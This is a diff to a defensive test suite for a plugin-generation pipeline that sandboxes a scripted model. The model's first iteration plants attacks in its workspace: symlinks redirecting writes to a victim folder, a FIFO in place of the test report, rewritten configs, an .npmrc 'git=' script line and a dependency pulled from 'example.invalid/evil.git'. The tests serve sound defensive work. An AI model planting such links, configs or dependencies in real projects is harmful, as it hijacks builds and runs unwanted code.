@@ -16,9 +16,9 @@ import { createTestRuntime, type TestRuntime } from '../../helpers/runtime.js';
 /**
  * Attacks on the agent's side of the sandbox: files, links and configuration a generated test
  * leaves in its workspace for the agent to write through, read, ship or run with later. The model is
- * scripted: iteration 1 carries the attack (its tests plant something, then validation refuses the
- * plugin for the file-system calls), iteration 2 is an honest answer whose writes, reads, build and
- * install must not be shaped by what was planted. Everything else is real.
+ * scripted: iteration 1 carries the attack (its test plants something, and fails when the attack
+ * needs a second iteration), iteration 2 is an honest answer whose writes, reads, build and install
+ * must not be shaped by what was planted. Everything else is real.
  */
 
 type File = { path: string; content: string };
@@ -31,9 +31,10 @@ const specFor = (name: string) => ({
 });
 const goodFiles = (name: string): File[] => templateFiles(parsePluginSpec(specFor(name)));
 const ATTACK_TEST = 'src/__tests__/attack.test.ts';
-const attackTest = (body: string, imports: string): File => ({
+/** A test that plants something; with `fail`, it then fails, so the job goes on to iteration 2. */
+const attackTest = (body: string, imports: string, fail = false): File => ({
   path: ATTACK_TEST,
-  content: `${imports}import { it } from 'vitest';\n\nit('plants something for the agent', () => {\n${body}\n});\n`,
+  content: `${imports}import { it } from 'vitest';\n\nit('plants something for the agent', () => {\n${body}\n${fail ? "  throw new Error('planted; now repair me');\n" : ''}});\n`,
 });
 const HONEST_TEST: File = { path: ATTACK_TEST, content: "import { expect, it } from 'vitest';\n\nit('adds', () => {\n  expect(1 + 1).toBe(2);\n});\n" };
 const MARKER = 'pd-agent-side-marker-7c1d';
@@ -100,6 +101,7 @@ describe('attacks on the agent side: what a sandbox leaves behind is never trust
       attackTest(
         `  symlinkSync(${JSON.stringify(victimDir)}, 'src/poison');\n  rmSync('src/__contract__', { recursive: true, force: true });\n  symlinkSync(${JSON.stringify(victimDir)}, 'src/__contract__');`,
         "import { rmSync, symlinkSync } from 'node:fs';\n",
+        true,
       ),
     ], [{ path: 'src/poison/owned.ts', content: `export const owned = '${MARKER}';\n` }]);
     // A FIFO where vitest writes its report: vitest blocks on it until the time limit, then the
@@ -134,10 +136,14 @@ describe('attacks on the agent side: what a sandbox leaves behind is never trust
           "  writeFileSync('eslint.config.js', 'export default [];\\n');",
           "  writeFileSync('tsconfig.json', JSON.stringify({ compilerOptions: { strict: false, outDir: 'dist', rootDir: 'src' }, include: ['src'] }));",
           `  writeFileSync('.npmrc', ${JSON.stringify(`git=${script}\n`)});`,
-          "  const pkg = JSON.parse(readFileSync('package.json', 'utf8'));",
+          "  const pkg = JSON.parse(readFileSync('package.json', 'utf8')) as Record<string, unknown>;",
           "  writeFileSync('package.json', JSON.stringify({ ...pkg, dependencies: { evil: 'git+https://example.invalid/evil.git' } }));",
-        ].join('\n'),
+        ]
+          // Each write is tried on its own: the pipeline's files are read-only in the sandbox.
+          .map((line) => (line.includes('const pkg') ? line : `  try {\n  ${line}\n  } catch {\n    // refused\n  }`))
+          .join('\n'),
         "import { readFileSync, writeFileSync } from 'node:fs';\n",
+        true,
       ),
     ]);
   }, 120_000);
@@ -149,21 +155,21 @@ describe('attacks on the agent side: what a sandbox leaves behind is never trust
 
   it('the next answer and the contract tests are never written through links a test planted', async () => {
     const job = await finished('link-write');
-    expect(job.iterations[0]?.failedAt, reasonOf(job)).toBe('validate');
     expect(job.status, reasonOf(job)).toBe('succeeded');
+    // Iteration 2 wrote src/poison/owned.ts and the contract tests where the links had been.
+    expect(job.iterations).toHaveLength(2);
     // The folder the links led to is as it was: empty.
     expect(await readdir(victimDir)).toEqual([]);
   }, 600_000);
 
   it('a FIFO in place of the test report does not block the job', async () => {
     const job = await finished('fifo-report');
-    expect(job.iterations[0]?.failedAt, reasonOf(job)).toBe('test');
     expect(job.status, reasonOf(job)).toBe('succeeded');
+    expect(job.iterations[0]?.failedAt, reasonOf(job)).toBe('test');
   }, 600_000);
 
   it('what is installed is the build made after the tests, and its recorded hash matches the installed files', async () => {
     const job = await finished('dist-append');
-    expect(job.iterations[0]?.failedAt, reasonOf(job)).toBe('validate');
     expect(job.status, reasonOf(job)).toBe('succeeded');
     const installedDist = join(job.result!.installDir, 'node_modules', job.pluginName, 'dist');
     expect(existsSync(join(installedDist, 'payload.js'))).toBe(false);
@@ -173,8 +179,8 @@ describe('attacks on the agent side: what a sandbox leaves behind is never trust
 
   it("the pipeline's configuration is put back before every step: nothing a test wrote into it is used", async () => {
     const job = await finished('configs');
-    expect(job.iterations[0]?.failedAt, reasonOf(job)).toBe('validate');
     expect(job.status, reasonOf(job)).toBe('succeeded');
+    expect(job.iterations).toHaveLength(2);
     const dir = job.workspaceDir;
     // The rewritten Vitest config never ran, and the workspace holds the pipeline's own files again.
     expect(existsSync(join(dir, 'config-ran.txt'))).toBe(false);
